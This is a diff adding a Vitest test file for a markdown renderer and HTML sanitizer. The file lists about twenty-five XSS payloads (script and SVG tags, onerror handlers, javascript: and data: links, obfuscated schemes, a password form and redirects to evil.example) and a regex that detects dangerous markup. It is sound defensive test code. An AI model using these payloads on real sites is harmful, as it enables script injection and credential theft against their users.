@@ -1,0 +1,78 @@
+import { describe, expect, it } from 'vitest';
+import { renderMarkdown, sanitizeMarkup, stripMarkup } from './markdown.ts';
+
+/** Ways to run code or leave the page that an editor's text must not carry into it. */
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+  '<style>body{display:none}</style>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<object data="x.swf"></object><embed src="x.swf">',
+  '<img src=x onerror=alert(1)>',
+  '<p onclick="alert(1)" style="position:fixed">text</p>',
+  '<svg><script>alert(1)</script><animate onbegin=alert(1)></svg>',
+  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="jav&#x09;ascript:alert(1)">x</a>',
+  '<a href=" &#14; javascript:alert(1)">x</a>',
+  '[x](javascript:alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '[x](//evil.example)',
+  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
+  '![x](javascript:alert(1))',
+  '<form action="https://evil.example"><input name="password"></form>',
+  '<base href="https://evil.example">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<!--[if IE]><script>alert(1)</script><![endif]-->',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+];
+const DANGER =
+  /<\s*(script|style|iframe|object|embed|form|input|base|meta|link|svg|math|template)\b|<[^>]+\s(on\w+|style)\s*=|(href|src)\s*=\s*["']?\s*(javascript|data|vbscript):|(href|src)=["']\/\//i;
+
+describe('Markdown of editors', () => {
+  it.each(HOSTILE)('CONTENT-001 takes the danger out of %s', (text) => {
+    for (const html of [renderMarkdown(text), renderMarkdown(`Before ${text} after`), sanitizeMarkup(text)]) {
+      expect(html).not.toMatch(DANGER);
+      expect(html).not.toContain('evil.example/x');
+    }
+  });
+
+  it('CONTENT-001 the content of scripts and styles goes with them', () => {
+    expect(renderMarkdown('a\n\n<script>alert(1)</script>\n\n<style>b{}</style>\n\nc')).toBe('<p>a</p>\n<p>c</p>');
+  });
+
+  it('CONTENT-001 keeps what editors write', () => {
+    const html = renderMarkdown(
+      '# Title\n\n**Bold** and [link](/service)\n\n| a |\n|---|\n| b |\n\n- one\n\n![Yard](/images/yard.jpg)',
+    );
+    expect(html).toContain('<h2>Title</h2>');
+    expect(html).toContain('<strong>Bold</strong>');
+    expect(html).toContain('<a href="/service">link</a>');
+    expect(html).toContain('<td>b</td>');
+    expect(html).toContain('<li>one</li>');
+    expect(html).toContain('<img src="/images/yard.jpg" alt="Yard" loading="lazy" />');
+  });
+
+  it.each(['https://a.example/x', 'mailto:a@b.example', 'tel:+61755500100', 'sms:0491570006', '#top'])(
+    'CONTENT-001 keeps a link to %s',
+    (href) => {
+      expect(renderMarkdown(`[x](${href})`)).toContain(`href="${href}"`);
+    },
+  );
+
+  it('CONTENT-001 a page opened from a link learns nothing of ours', () => {
+    expect(renderMarkdown('<a href="https://a.example" target="_blank">x</a>')).toContain('rel="noopener"');
+  });
+
+  it('CONTENT-001 shows characters of markup that are text', () => {
+    expect(renderMarkdown('Under 5 < 6 & `<b>`')).toBe('<p>Under 5 &lt; 6 &amp; <code>&lt;b&gt;</code></p>');
+  });
+
+  it('OFFER-017 plain text of markup has no markup and no entities', () => {
+    expect(stripMarkup('<p>Cars &amp; <b>trucks</b> &lt; $5</p><script>x</script>')).toBe('Cars & trucks < $5');
+    expect(stripMarkup('&amp;lt;script&amp;gt;')).toBe('&lt;script&gt;');
+  });
+});
